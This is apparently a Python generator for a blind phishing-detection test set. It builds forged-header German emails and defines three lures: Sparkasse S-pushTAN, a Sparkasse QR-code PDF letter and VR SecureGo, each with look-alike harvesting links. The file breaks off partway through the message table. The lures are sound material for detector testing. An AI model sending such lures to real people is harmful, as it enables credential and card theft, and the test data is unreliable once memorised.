#!/usr/bin/env python3
"""Blind evaluation set 28: a DACH consumer-protection "phishing radar", 2024-2026.

Recipients are consumers and small businesses in Germany, Austria and
Switzerland whose mail a consumer-protection centre collected for its public
phishing radar: private addresses at GMX, WEB.DE, T-Online, Gmail, Outlook.com,
Bluewin and A1, and the Microsoft 365 tenants of small firms (a Tischlerei, an
Elektro-Betrieb, a Steuerbüro client) and medical/dental practices (Praxen).
Most mail is German; a few Swiss messages are French or Italian, a few English.

Attacks (50): German banks (Sparkasse S-pushTAN and Kartenupdate, VR SecureGo,
ING, DKB, comdirect, N26, Postbank), PayPal.de, Amazon.de,
DHL/Deutsche Post/DPD, ELSTER, Bundeszentralamt für Steuern, Rundfunkbeitrag,
Telekom/Vodafone, GMX Postfach, Kleinanzeigen "sicher bezahlen", ADAC,
Deutschlandticket, AOK; Austria (A1, Post.at, FinanzOnline, Raiffeisen ELBA,
Erste George, ID Austria); Switzerland (PostFinance, Swisscom, SBB, UBS, Twint,
ESTV, Serafe, Swiss Post); and business fraud: CEO fraud, invoice fraud with a
changed IBAN in hijacked or look-alike reply threads, payroll diversion,
gift cards, fake applications (Bewerbungen) with LNK/ISO droppers for HR, a
macro document in a hijacked thread, DocuSign look-alikes, genuine SharePoint,
Google Forms, PayPal-invoice and SendGrid abuse, calendar invites, HTML
attachments (form, meta refresh, JS redirect, HTML smuggling), PDFs with links
or QR codes (Quishing letters), QR codes in the body, callback numbers and an
advance-fee letter.

Legitimate (25): genuine notifications from the same brands (Sparkasse, ING,
DHL, ELSTER, Telekom, Amazon.de, PayPal, A1, PostFinance, Swisscom, SBB,
Microsoft, DocuSign), newsletters with tracking redirects (CleverReach, Brevo,
Mailchimp, rapidmail), supplier invoices with IBAN, internal mail of a Praxis
and a Handwerksbetrieb, a genuine application, and personal mail.

Run from the repository root:
    .venv/bin/python samples/tools/build_blind28_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import html as htmllib
import os
import re
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

N = 28
ROOT = Path(__file__).resolve().parents[2]
OUT = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / f"blind{N}_manifest.txt"

# --------------------------------------------------------------------------- tokens, dates, addresses

B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
HEX = "0123456789abcdef"


def tok(seed: str, n: int = 16, alpha: str = ALNUM) -> str:
    """A deterministic pseudo-random token."""
    data = hashlib.sha256(seed.encode()).digest()
    while len(data) < n:
        data += hashlib.sha256(data).digest()
    return "".join(alpha[b % len(alpha)] for b in data[:n])


def when(stamp: str) -> datetime:
    """'2025-03-04 09:12:33' as local time in CET/CEST (simple EU DST rule)."""
    dt = datetime.strptime(stamp, "%Y-%m-%d %H:%M:%S")
    summer = 4 <= dt.month <= 9 or (dt.month == 3 and dt.day >= 30) or (dt.month == 10 and dt.day <= 25)
    return dt.replace(tzinfo=timezone(timedelta(hours=2 if summer else 1)))


def rfcdate(dt: datetime, utc: bool = False) -> str:
    return format_datetime(dt.astimezone(timezone.utc) if utc else dt).replace("-0000", "+0000")


def enc(value: str) -> str:
    """RFC 2047 UTF-8 B encoding for non-ASCII header text, folded."""
    if all(ord(c) < 128 for c in value):
        return value
    words, chunk = [], b""
    for ch in value:
        b = ch.encode()
        if len(chunk) + len(b) > 42:
            words.append(chunk)
            chunk = b""
        chunk += b
    words.append(chunk)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w).decode()}?=" for w in words)


def addr(name: str | None, email: str) -> str:
    if not name:
        return email
    if any(ord(c) > 127 for c in name):
        return f"{enc(name)} <{email}>"
    if re.search(r'[(),.:;@\[\]"<>]', name):
        return '"' + name.replace('"', '\\"') + f'" <{email}>'
    return f"{name} <{email}>"


def dom(email: str) -> str:
    return email.rsplit("@", 1)[1].lower()


def latin(s: str) -> str:
    """Text safe for the WinAnsi/Latin-1 PDF helpers."""
    for a, b in (("€", "EUR"), ("–", "-"), ("—", "-"), ("„", '"'), ("“", '"'), ("”", '"'), ("’", "'"), ("•", "-")):
        s = s.replace(a, b)
    return s


# --------------------------------------------------------------------------- receiving providers

PROV = {
    # key: (MX host, its IP, AR style, id style)
    "gmx": ("mx-ha.gmx.net (mxgmx{n} [212.227.15.{o}])", "gmx.net", "std"),
    "gmxat": ("mx-ha.gmx.net (mxgmx{n} [212.227.17.{o}])", "gmx.net", "std"),
    "webde": ("mx-ha.web.de (mxweb{n} [212.227.15.{o}])", "web.de", "std"),
    "tonline": ("mailin{n}.mgt.mul.t-online.de (mailin{n}.mgt.mul.t-online.de [194.25.134.{o}])", "t-online.de", "std"),
    "gmail": ("mx.google.com", "mx.google.com", "google"),
    "outlook": ("{pep}.mail.protection.outlook.com (10.167.{n}.{o})", "", "ms"),
    "m365": ("{pep}.mail.protection.outlook.com (10.167.{n}.{o})", "", "ms"),
    "bluewin": ("mx-bw{n}.bluewin.ch (Swisscom AG) ([195.186.120.{o}])", "bluewin.ch", "std"),
    "a1": ("mx0{n}.a1.net (A1 Telekom Austria) ([62.47.95.{o}])", "a1.net", "std"),
}


def dkim_header(domain: str, selector: str, seed: str, dt: datetime, heads: str = "From:To:Subject:Date:Message-ID") -> str:
    bh = base64.b64encode(hashlib.sha256(("bh" + seed).encode()).digest()).decode()
    sig = tok("b" + seed, 342, B64) + "=="
    lines = [sig[i:i + 70] for i in range(0, len(sig), 70)]
    ts = int(dt.timestamp())
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain};\n\ts={selector}; t={ts};"
            f" h={heads};\n\tbh={bh};\n\tb=" + "\n\t ".join(lines))


def auth_results(m: dict, ip: str) -> str:
    spf, dk, dmarc = m["auth"].split("/")
    prov = PROV[m["rcpt"]]
    fdom = dom(m["frm"][1])
    mfrom = m["mailfrom"]
    sigs = m.get("dkim") or []
    pol = m.get("policy", "none")
    if prov[2] == "google":
        parts = []
        for i, (d, s) in enumerate(sigs):
            parts.append(f"dkim={dk if i == 0 else 'pass'} header.i=@{d} header.s={s} header.b={tok(m['slug'] + d, 8)}")
        if not sigs and dk != "none":
            parts.append(f"dkim={dk}")
        verb = {"pass": "designates", "softfail": "does not designate", "fail": "does not designate",
                "neutral": "is neither permitted nor denied by best guess record for domain of"}[spf]
        if spf == "neutral":
            parts.append(f"spf=neutral (google.com: {ip} {verb} {mfrom}) smtp.mailfrom={mfrom}")
        else:
            parts.append(f"spf={spf} (google.com: domain of {mfrom} {verb} {ip} as permitted sender) smtp.mailfrom={mfrom}")
        P = pol.upper()
        dis = "NONE" if dmarc == "pass" or pol == "none" else P
        if dmarc != "none":
            parts.append(f"dmarc={dmarc} (p={P} sp={P} dis={dis}) header.from={fdom}")
        return "Authentication-Results: mx.google.com;\n       " + ";\n       ".join(parts)
    if prov[2] == "ms":
        dkpart = (f"dkim={dk} (signature was verified)\n header.d={sigs[0][0]}" if sigs and dk == "pass" else
                  f"dkim={dk} (body hash did not verify)\n header.d={sigs[0][0]}" if sigs else
                  "dkim=none (message not signed)\n header.d=none")
        action = "none" if dmarc in ("pass", "none", "bestguesspass") else ("oreject" if pol == "reject" else "quarantine")
        comp = "pass reason=100" if dmarc in ("pass",) else (
            "softpass reason=109" if dmarc in ("bestguesspass", "none") and spf == "pass" else "fail reason=000")
        spfword = f"sender IP is {ip}"
        return (f"Authentication-Results: spf={spf} ({spfword})\n smtp.mailfrom={dom(mfrom)}; {dkpart};dmarc={dmarc}"
                f" action={action}\n header.from={fdom};compauth={comp}")
    parts = []
    for i, (d, s) in enumerate(sigs):
        parts.append(f"dkim={dk if i == 0 else 'pass'} header.d={d} header.s={s} header.b={tok(m['slug'] + d, 8)}")
    if not sigs:
        parts.append("dkim=none")
    parts.append(f"spf={spf} smtp.mailfrom={mfrom}")
    parts.append(f"dmarc={dmarc} (p={pol}) header.from={fdom}")
    return f"Authentication-Results: {prov[1]};\n\t" + ";\n\t".join(parts)


ORIGIN = {
    "postfix": "Received: from localhost (localhost [127.0.0.1])\n\tby {helo} (Postfix) with ESMTPSA id {qid}\n\tfor <{to}>; {d}",
    "php": "Received: by {helo} (Postfix, from userid 33)\n\tid {qid}; {d}",
    "exim": "Received: from [{cip}] (helo=[{cip}])\n\tby {helo} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.97.1)\n\t(envelope-from <{mf}>)\n\tid 1t{qid6}-00{qid4}-Ab; {d}",
    "gmail": "Received: by 2002:a05:6402:{h4}:b0:5c9:{h3}:{h4b} with SMTP id\n        {gsid}mr{n4}{n2}{lid}.{n2}.{ts};\n        {pd}",
    "outlook": "Received: from {mh}\n ([fe80::{h4}:{h4b}:{h3}:{h4}]) by {mh}\n ([fe80::{h4}:{h4b}:{h3}:{h4}%5]) with mapi id 15.20.{n4}.0{n2}; {d}",
    "m365": "Received: from {mh}\n ([fe80::{h4}:{h4b}:{h3}:{h4}]) by {mh}\n ([fe80::{h4}:{h4b}:{h3}:{h4}%4]) with mapi id 15.20.{n4}.0{n2}; {d}",
    "gmxout": "Received: from [{cip}] ([{cip}]) by mail.{mfd} ({mh})\n (via HTTP); {d}",
}


def pacific(dt: datetime) -> str:
    """Google stamps its Received lines in Mountain View time."""
    pdt = dt.utcoffset() == timedelta(hours=2)
    return f"{format_datetime(dt.astimezone(timezone(timedelta(hours=-7 if pdt else -8))))} ({'PDT' if pdt else 'PST'})"


def message_id(m: dict, dt: datetime) -> str:
    """A Message-ID in the style of the software that wrote the message."""
    s, origin = m["slug"], m.get("origin")
    if m.get("mid"):
        return m["mid"] if m["mid"].startswith("<") else f"<{tok(s + 'm', 24, HEX)}@{m['mid']}>"
    if IPHONE in m.get("extra", []):
        u = tok(s + "m", 32, HEX.upper())
        return f"<{u[:8]}-{u[8:12]}-{u[12:16]}-{u[16:20]}-{u[20:]}@{dom(m['frm'][1])}>"
    if dom(m["frm"][1]) == "gmail.com":
        return f"<CA{tok(s + 'm', 44, ALNUM + '+_-')}@mail.gmail.com>"
    if origin == "gmxout":
        u = tok(s + "m", 32, HEX)
        app = "webde" if "web.de" in m["mailfrom"] else "gmx"
        return (f"<trinity-{u[:8]}-{u[8:12]}-{u[12:16]}-{u[16:20]}-{u[20:]}-{int(dt.timestamp())}{tok(s, 3, '0123456789')}"
                f"@3c-app-{app}-bap{int(tok(s, 2, '0123456789')) % 90 + 10}>")
    if origin in ("outlook", "m365") or m.get("rcv"):
        pre = ["DU2", "AS8", "AM9", "VI1", "PA4", "DB9", "GV1"][int(tok(s + "h", 2, "0123456789")) % 7]
        host = f"{pre}PR0{tok(s + 'j', 1, '1234678')}MB{tok(s + 'k', 4, '0123456789')}"
        region = "EURP195.PROD.OUTLOOK.COM" if origin == "outlook" else f"eurprd0{host[6]}.prod.outlook.com"
        return f"<{host}{tok(s + 'm', 16, HEX.upper())}@{host}.{region}>"
    return f"<{tok(s + 'm', 24, HEX)}@{dom(m['frm'][1])}>"


def received(m: dict, dt: datetime) -> list[str]:
    """Received chain, newest first: the recipient's MX (and mailbox hop for Microsoft), then the origin."""
    s = m["slug"]
    to = m["to"][1]
    ip, helo = m["ip"], m["helo"]
    num = int(tok(s + "n", 6, "0123456789"))
    prov = PROV[m["rcpt"]]
    t_mx = dt + timedelta(seconds=2 + num % 9)
    out = []
    if prov[2] == "ms":
        pep = f"AM{num % 9 + 1}PEPF0000{tok(s + 'p', 4, '0123456789ABCDEF')}"
        mbx = f"{'DU2' if m['rcpt'] == 'm365' else 'PAW'}PR0{num % 8 + 1}MB{num % 9000 + 1000}"
        region = "eurprd0" + str(num % 8 + 1) if m["rcpt"] == "m365" else f"EURP{190 + num % 9}"
        prot = prov[0].format(pep=pep, n=num % 250, o=num % 200 + 20)
        out.append(f"Received: from {pep}.{region}.prod.outlook.com (2603:10a6:20b:{num % 999}::{num % 90 + 10}) by\n"
                   f" {mbx}.{region}.prod.outlook.com with HTTPS; {rfcdate(t_mx + timedelta(seconds=1), True)}")
        out.append(f"Received: from {helo} ({ip}) by\n {prot} with Microsoft SMTP Server (version=TLS1_3,\n"
                   f" cipher=TLS_AES_256_GCM_SHA384) id 15.20.{8100 + num % 300}.{num % 30} via Frontend Transport;"
                   f" {rfcdate(t_mx, True)}")
    elif prov[2] == "google":
        gid = (f"{tok(s + 'g', 13, HEX)}si{num % 900000 + 100000}{tok(s + 'gg', 3, 'abcdefghijklmnopqrstuvwxyz')}"
               f".{t_mx.astimezone(timezone.utc).strftime('%Y.%m.%d.%H.%M.%S')}")
        out.append(f"Received: from {helo} ({helo} [{ip}])\n        by mx.google.com with ESMTPS id {gid}\n"
                   f"        for <{to}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n"
                   f"        {pacific(t_mx)}")
    else:
        mx = prov[0].format(n=num % 90 + 10, o=num % 200 + 20)
        out.append(f"Received: from {helo} ({helo} [{ip}])\n\tby {mx}\n\twith ESMTPS id {tok(s + 'r', 14)}\n"
                   f"\tfor <{to}>; {rfcdate(t_mx)}")
    origin = m.get("origin")
    if origin:
        fmt = ORIGIN[origin]
        out.append(fmt.format(helo=helo, qid=tok(s + "q", 10, HEX.upper()), to=to, d=rfcdate(dt),
                              cip=m.get("cip", "87.123.45.67"), mf=m["mailfrom"], qid6=tok(s + "6", 6),
                              qid4=tok(s + "4", 4, "0123456789"), h4=tok(s + "h4", 4, HEX), h4b=tok(s + "hb", 4, HEX),
                              h3=tok(s + "h3", 3, HEX), lid=tok(s + "l", 2, "abcdefghijklmnopqrstuvwxyz"),
                              n1=num % 8 + 1, n2=num % 90 + 10, n3=190 + num % 9, n4=8000 + num % 400,
                              mh=message_id(m, dt).rstrip(">").split("@")[1],
                              mfd="web.de" if "web.de" in m["mailfrom"] else "gmx.net",
                              gsid=f"{tok(s + 'gs', 13, HEX)}-{tok(s + 'gt', 11, HEX)}", ts=int(dt.timestamp()),
                              pd=pacific(dt)))
    return out


def headers(m: dict) -> str:
    dt = when(m["date"])
    lines = [f"Return-Path: <{m['mailfrom']}>"] if m["mailfrom"] else ["Return-Path: <>"]
    lines += [f"Delivered-To: {m['to'][1]}"] if m["rcpt"] in ("gmx", "gmxat", "webde", "gmail") else []
    lines += [r.replace("{D}", rfcdate(dt)) for r in m["rcv"]] if m.get("rcv") else received(m, dt)
    lines.append(m.get("ar") or auth_results(m, m["ip"]))
    for d, sel in m.get("dkim") or []:
        lines.append(dkim_header(d, sel, m["slug"] + d, dt))
    mid = message_id(m, dt)
    lines += m.get("pre", [])
    lines.append(f"From: {addr(*m['frm'])}")
    to = m.get("to_hdr") or addr(*m["to"])
    lines.append(f"To: {to}")
    lines += [f"Cc: {c}" for c in m.get("cc", [])]
    if m.get("reply_to"):
        lines.append(f"Reply-To: {m['reply_to']}")
    lines.append(f"Subject: {enc(m['subj'])}")
    lines.append(f"Date: {rfcdate(dt, m.get('utc', False))}")
    lines.append(f"Message-ID: {mid}")
    lines += m.get("extra", [])
    if m.get("origin") == "gmail":
        lines += [f"X-Gm-Message-State: AOJu0Y{tok(m['slug'] + 'gm', 60, ALNUM + '+/')}",
                  f"X-Google-Smtp-Source: AGHT+IF{tok(m['slug'] + 'gx', 60, ALNUM + '+/')}"]
    if m.get("origin") == "gmxout":
        lines.append(f"X-Provags-ID: V03:K1:{tok(m['slug'] + 'pv', 70, ALNUM + '+/')}")
    return "\n".join(lines)


# --------------------------------------------------------------------------- bodies

def strip_html(fragment: str) -> str:
    s = re.sub(r'<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>', lambda g: f"{g.group(2)} ( {g.group(1)} )", fragment, flags=re.S)
    s = re.sub(r"<br\s*/?>", "\n", s)
    s = re.sub(r"<[^>]+>", "", s)
    return htmllib.unescape(s)


def page(brand: str, color: str, heading: str, paras: list[str], button: tuple[str, str] | None = None,
         foot: str = "", lang: str = "de", pixel: str | None = None, pre: str = "", style: int = 0,
         after: list[str] | None = None, img: str | None = None) -> tuple[str, str]:
    """A branded HTML mail (style 0: table newsletter layout, 1: kit-style divs) and its text twin."""
    after = after or []
    if style == 0:
        ps = "".join(f'<p style="margin:0 0 14px 0;">{p}</p>\n' for p in paras)
        btn = (f'<table role="presentation" cellpadding="0" cellspacing="0"><tr><td style="background:{color};'
               f'border-radius:4px;padding:12px 26px;"><a href="{button[1]}" style="color:#ffffff;text-decoration:none;'
               f'font-weight:bold;font-size:15px;" target="_blank">{button[0]}</a></td></tr></table>\n') if button else ""
        ps2 = "".join(f'<p style="margin:14px 0 0 0;">{p}</p>\n' for p in after)
        logo = f'<img src="{img}" alt="{brand}" height="32" style="display:block;border:0;">' if img else brand
        body = (f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#f3f3f3;">'
                f'<tr><td align="center" style="padding:20px 8px;">\n<table role="presentation" width="600" '
                f'cellpadding="0" cellspacing="0" style="background:#ffffff;max-width:600px;">\n'
                f'<tr><td style="background:{color};padding:18px 28px;color:#ffffff;font-size:22px;font-weight:bold;">'
                f'{logo}</td></tr>\n<tr><td style="padding:28px;color:#333333;font-size:15px;line-height:22px;">\n'
                f'<h1 style="font-size:20px;margin:0 0 18px 0;color:#222222;">{heading}</h1>\n{ps}{btn}{ps2}</td></tr>\n'
                f'<tr><td style="padding:18px 28px;background:#fafafa;color:#888888;font-size:11px;line-height:16px;">'
                f'{foot}</td></tr>\n</table>\n</td></tr></table>\n')
    else:
        ps = "".join(f"<p>{p}</p>\n" for p in paras)
        btn = (f'<p><a href="{button[1]}" style="display:inline-block;background:{color};color:#fff;padding:10px 22px;'
               f'text-decoration:none;border-radius:3px;">{button[0]}</a></p>\n') if button else ""
        ps2 = "".join(f"<p>{p}</p>\n" for p in after)
        body = (f'<div style="font-family:Arial,sans-serif;font-size:14px;color:#222;max-width:580px;margin:auto;">\n'
                f'<div style="border-bottom:3px solid {color};padding:10px 0;font-size:20px;font-weight:bold;'
                f'color:{color};">{brand}</div>\n<h2 style="font-size:17px;">{heading}</h2>\n{ps}{btn}{ps2}'
                f'<div style="font-size:11px;color:#999;margin-top:24px;">{foot}</div>\n</div>\n')
    hidden = (f'<div style="display:none;max-height:0;overflow:hidden;mso-hide:all;">{pre}</div>\n') if pre else ""
    track = f'<img src="{pixel}" width="1" height="1" alt="" style="display:block;border:0;">\n' if pixel else ""
    html = (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta http-equiv="Content-Type" content="text/html; '
            f'charset=utf-8">\n<meta name="viewport" content="width=device-width, initial-scale=1.0">\n'
            f'<title>{heading}</title>\n</head>\n<body style="margin:0;padding:0;font-family:Arial,Helvetica,sans-serif;">'
            f'\n{hidden}{body}{track}</body>\n</html>\n')
    txt = [brand, "", strip_html(heading), ""]
    txt += [strip_html(p) + "\n" for p in paras]
    if button:
        txt += [f"{strip_html(button[0])}: {button[1]}", ""]
    txt += [strip_html(p) + "\n" for p in after]
    txt += ["--", strip_html(foot)]
    return "\n".join(txt) + "\n", html


def alt(pair: tuple[str, str], b: str, html_enc: str = "quoted-printable") -> Multi:
    t, h = pair
    return Multi("alternative", b, [text(t), text(h, "html", html_enc)])


def autolink(escaped: str) -> str:
    return re.sub(r"(https?://[^\s<]+)", lambda g: f'<a href="{g.group(1)}">{g.group(1)}</a>', escaped)


def outlook_html(body: str) -> str:
    paras = []
    for line in body.split("\n"):
        esc = autolink(htmllib.escape(line, quote=False)) if line else "&nbsp;"
        paras.append(f'<p class="MsoNormal">{esc}<o:p></o:p></p>')
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; '
            'charset=utf-8">\n<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            '@font-face {font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm;font-size:11.0pt;'
            'font-family:"Aptos",sans-serif;}\n@page WordSection1 {size:612.0pt 792.0pt;margin:70.85pt 70.85pt 2.0cm '
            '70.85pt;}\ndiv.WordSection1 {page:WordSection1;}\n--></style>\n</head>\n<body lang="DE" link="#467886" '
            'vlink="#96607D" style="word-wrap:break-word">\n<div class="WordSection1">\n' + "\n".join(paras) +
            "\n</div>\n</body>\n</html>\n")


def gmail_html(body: str) -> str:
    blocks = []
    for para in body.split("\n\n"):
        inner = "<br>".join(autolink(htmllib.escape(x, quote=False)) for x in para.split("\n"))
        blocks.append(f"<div>{inner}</div>")
    return '<div dir="ltr">' + "<div><br></div>".join(blocks) + "</div>\n"


def person(body: str, client: str, b: str = "") -> Leaf | Multi:
    """A person's mail as their client writes it: plain, gmail or outlook alternative."""
    if client == "plain":
        return text(body)
    if client == "plain8":
        return text(body, encoding="8bit")
    h = gmail_html(body) if client == "gmail" else outlook_html(body)
    return Multi("alternative", b or f"000000000000{tok(body[:40], 12, HEX)}", [text(body), text(h, "html")])


def mixed(b: str, first, *atts) -> Multi:
    return Multi("mixed", b, [first, *atts])


PDF_MIME = "application/pdf"


def pdf_doc(lines: list[str], link: str | None = None, button: str = "", title: str = "",
            producer: str = "Microsoft: Print To PDF") -> bytes:
    """A one-page PDF in Helvetica; with ``link``, a coloured button carrying a URI annotation."""
    cl = ["BT", "/F1 11 Tf", "15 TL", "56 780 Td"] + [f"({files._pdf_escape(latin(x))}) Tj T*" for x in lines] + ["ET"]
    if link:
        cl += ["0.0 0.35 0.65 rg", "56 420 220 36 re f", "BT /F1 13 Tf 1 1 1 rg", f"72 434 Td ({latin(button)}) Tj ET"]
    stream = "\n".join(cl).encode("latin-1")
    annots = " /Annots [6 0 R]" if link else ""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            (f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
             f"/Contents 5 0 R{annots} >>").encode(),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
            b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream"]
    if link:
        objs.append(f"<< /Type /Annot /Subtype /Link /Rect [56 420 276 456] /Border [0 0 0] "
                    f"/A << /S /URI /URI ({files._pdf_escape(link)}) >> >>".encode())
    objs.append(f"<< /Title ({files._pdf_escape(latin(title))}) /Producer ({producer}) "
                f"/CreationDate (D:20250312093000+01'00') >>".encode("latin-1"))
    return files.pdf_file(objs, len(objs))


def pdf_qr(lines: list[str], url: str, title: str, producer: str = "Skia/PDF m124") -> bytes:
    """A letter-style PDF page of text with a QR code image (no link annotation): Quishing."""
    import segno

    matrix = segno.make(url, error="m", micro=False).matrix
    scale, border = 4, 4
    size = (len(matrix) + 2 * border) * scale
    rows = bytearray()
    for y in range(size):
        my = y // scale - border
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
            rows.append(0 if dark else 255)
    image = zlib.compress(bytes(rows), 9)
    cl = ["BT", "/F1 11 Tf", "15 TL", "56 780 Td"] + [f"({files._pdf_escape(latin(x))}) Tj T*" for x in lines] + ["ET"]
    cl += ["q", f"{size} 0 0 {size} 56 250 cm", "/Im1 Do", "Q"]
    objs = files.image_page("\n".join(cl).encode("latin-1"), image, size, size, "FlateDecode")
    objs.append(f"<< /Title ({files._pdf_escape(latin(title))}) /Producer ({producer}) "
                f"/CreationDate (D:20250312093000+01'00') >>".encode("latin-1"))
    return files.pdf_file(objs, len(objs))


def att(name: str, data: bytes, ctype: str = PDF_MIME) -> Leaf:
    return attachment(ctype, name, data)


def inline_png(name: str, data: bytes, cid: str) -> Leaf:
    return attachment("image/png", name, data, inline=True, cid=cid)



# --------------------------------------------------------------------------- message table

MSGS: list[dict] = []


def M(slug: str, cat: str, rcpt: str, to: tuple, frm: tuple, subj: str, date: str, ip: str, helo: str, auth: str,
      body, desc: str, **kw) -> None:
    kind = {"phishing": "phish", "malware": "phish", "clean": "legit", "bulk": "bulk"}[cat]
    kw.setdefault("mailfrom", frm[1])
    MSGS.append(dict(slug=slug, cat=cat, kind=kind, rcpt=rcpt, to=to, frm=frm, subj=subj, date=date, ip=ip,
                     helo=helo, auth=auth, body=body, desc=desc, **kw))


PHPMAILER = "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"
SPK_FOOT = ("Dies ist eine automatisch generierte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.<br>"
            "&copy; 2025 Deutscher Sparkassen- und Giroverband e.V.")


# ---- Germany: banks

M("sparkasse-pushtan", "phishing", "gmx", ("Monika Albrecht", "monika.albrecht61@gmx.de"),
  ("Sparkasse", "kundenservice@sparkasse-pushtan-aktivierung.de"),
  "Wichtig: Ihr S-pushTAN-Verfahren muss bis zum 14.03.2025 neu registriert werden", "2025-03-11 07:48:12",
  "45.138.16.77", "mail.sparkasse-pushtan-aktivierung.de", "pass/pass/pass",
  alt(page("Sparkasse", "#ff0000", "Neuregistrierung Ihres S-pushTAN-Verfahrens", [
      "Sehr geehrte Kundin, sehr geehrter Kunde,",
      "im Zuge der Umstellung auf die neue Generation der App &bdquo;S-pushTAN&ldquo; und gem&auml;&szlig; den "
      "Vorgaben der EU-Zahlungsdiensterichtlinie (PSD2) m&uuml;ssen alle bestehenden Ger&auml;te neu registriert "
      "werden. Ohne Neuregistrierung ist Ihr Online-Banking ab dem <b>14.03.2025</b> nicht mehr nutzbar.",
      "Die Registrierung dauert nur wenige Minuten. Bitte halten Sie Ihre Zugangsdaten zum Online-Banking und "
      "Ihre Sparkassen-Card (Debitkarte) bereit."],
      ("Jetzt neu registrieren", "https://sparkasse-pushtan-aktivierung.de/s/login/?blz=37050198&ref=" + tok("spk1", 20)),
      SPK_FOOT, after=["Vielen Dank f&uuml;r Ihr Vertrauen.<br>Ihre Sparkasse"]), "b1_9f2c71aa01"),
  "Sparkasse S-pushTAN re-registration lure from a look-alike domain that passes its own SPF/DKIM, linking to a "
  "credential and card-data harvesting page.",
  dkim=[("sparkasse-pushtan-aktivierung.de", "default")], origin="php", extra=[PHPMAILER])

M("sparkasse-kartenupdate", "phishing", "webde", ("Jürgen Pohl", "j.pohl@web.de"),
  ("Sparkasse Kundenservice", "info@maler-obermeier.de"),
  "Ihre Sparkassen-Card: Aktualisierung erforderlich (Az. KU-2025-44817)", "2025-04-02 10:13:55",
  "85.13.163.91", "dd31522.kasserver.com", "pass/pass/pass",
  mixed("----=_NextPart_000_0012_01DBA3B4.6C2E1F30",
        text("Sehr geehrte Kundin, sehr geehrter Kunde,\n\nanbei erhalten Sie ein wichtiges Schreiben Ihrer Sparkasse "
             "zur Aktualisierung Ihrer Sparkassen-Card (Debitkarte).\nBitte lesen Sie das Schreiben aufmerksam und "
             "führen Sie die Aktualisierung fristgerecht durch.\n\nMit freundlichen Grüßen\nIhre Sparkasse\n"),
        att("Sparkasse_Kartenupdate_KU-2025-44817.pdf", pdf_qr([
            "Sparkasse - Kartenservice", "", "Az. KU-2025-44817", "", "Sehr geehrte Kundin, sehr geehrter Kunde,", "",
            "zum 30.04.2025 wird der Chip aller Sparkassen-Cards auf den neuen EMV-Standard umgestellt.",
            "Damit Ihre Karte weiterhin an Kassen und Geldautomaten funktioniert, muss sie",
            "einmalig in Ihrem Online-Banking aktualisiert werden.", "",
            "So einfach geht's: Scannen Sie den QR-Code mit der Kamera Ihres Smartphones",
            "und folgen Sie den Anweisungen. Halten Sie Ihre Karte und Ihre S-pushTAN-App bereit.", "",
            "Ohne Aktualisierung wird Ihre Karte aus Sicherheitsgruenden gesperrt.", "",
            "Mit freundlichen Gruessen", "Ihre Sparkasse"],
            "https://s-kartenupdate.de/app/verify?c=" + tok("spk2", 18), "Kartenupdate"))),
  "Sparkasse 'Kartenupdate' letter as a PDF whose only call to action is a QR code (quishing), sent from a "
  "compromised small-business mailbox at a German hoster, so SPF, DKIM and DMARC all pass.",
  dkim=[("maler-obermeier.de", "kas202307")], origin="exim", cip="91.92.240.18",
  extra=["X-Mailer: Microsoft Outlook 16.0"])

M("vr-securego", "phishing", "tonline", ("Hans-Peter Kübler", "hp.kuebler@t-online.de"),
  ("Volksbank Raiffeisenbank", "service@vr.de"),
  "VR SecureGo plus: Ihre Freigabe-App wird deaktiviert", "2024-11-19 18:22:40",
  "103.151.44.19", "vps2231.hostrenew.net", "softfail/none/fail",
  alt(page("Volksbanken Raiffeisenbanken", "#0066b3", "Handlungsbedarf: VR SecureGo plus", [
      "Sehr geehrte Kundin, sehr geehrter Kunde,",
      "wir haben festgestellt, dass Ihre Freigabe-App <b>VR SecureGo plus</b> noch nicht mit Ihrem aktuellen "
      "Ger&auml;t verkn&uuml;pft ist. Aus Sicherheitsgr&uuml;nden wird die App am 22.11.2024 deaktiviert.",
      "Um eine Sperrung Ihres Online-Bankings zu vermeiden, best&auml;tigen Sie bitte Ihre Daten &uuml;ber den "
      "folgenden Link:"], ("Jetzt best&auml;tigen", "https://securego-plus-vr.de/anmeldung/index.php?id=" + tok("vr", 12)),
      "Ihre Volksbank Raiffeisenbank &middot; Genossenschaftliche FinanzGruppe", style=1), "=_alt_5c1d0e9f"),
